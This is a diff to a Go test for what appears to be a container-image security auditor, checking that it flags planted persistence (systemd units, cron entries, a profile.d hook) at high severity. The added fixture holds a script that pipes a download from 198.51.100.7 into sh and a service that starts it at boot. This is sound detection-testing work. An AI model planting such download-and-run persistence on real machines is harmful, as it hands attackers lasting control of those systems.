@@ -576,6 +576,8 @@ func TestAutostartRunsPayload(t *testing.T) {
 		imagebuild.Reg("/etc/systemd/system/netsync.service", "[Service]\nExecStart=/usr/local/bin/netsync\nRestart=always\n"),
 		imagebuild.Reg("/etc/cron.d/netsync", "*/5 * * * * root /usr/local/bin/netsync >/dev/null 2>&1\n"),
 		imagebuild.Reg("/etc/profile.d/netsync.sh", "(/usr/local/bin/netsync &) 2>/dev/null\n"),
+		imagebuild.Reg("/usr/local/bin/refresh", "#!/bin/sh\ncurl -fsSL http://198.51.100.7/r.sh | sh\n").WithMode(0o755),
+		imagebuild.Reg("/etc/systemd/system/refresh.service", "[Service]\nExecStart=/usr/local/bin/refresh\n"),
 		imagebuild.Reg("/etc/systemd/system/rotate.service", "[Service]\nExecStart=/usr/local/bin/rotate\n"),
 		imagebuild.Reg("/etc/cron.d/rotate", "0 3 * * * root /usr/local/bin/rotate\n"),
 	}}}})
@@ -589,6 +591,16 @@ func TestAutostartRunsPayload(t *testing.T) {
 		if !ok {
 			t.Errorf("%s: no persistence finding labelled reverse-shell at high or above:\n%s", p, dumpFindings(res.Findings))
 		}
+	}
+	// a unit that starts a script which runs what it downloads (medium on its own)
+	refresh := false
+	for _, f := range res.Findings {
+		if f.Path == "/etc/systemd/system/refresh.service" && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && f.Is(audit.CategoryMalware) {
+			refresh = true
+		}
+	}
+	if !refresh {
+		t.Errorf("refresh.service: no persistence finding labelled malware at high or above:\n%s", dumpFindings(res.Findings))
 	}
 	for _, f := range res.Findings {
 		if strings.Contains(f.Path, "rotate") && f.Severity >= audit.Medium {
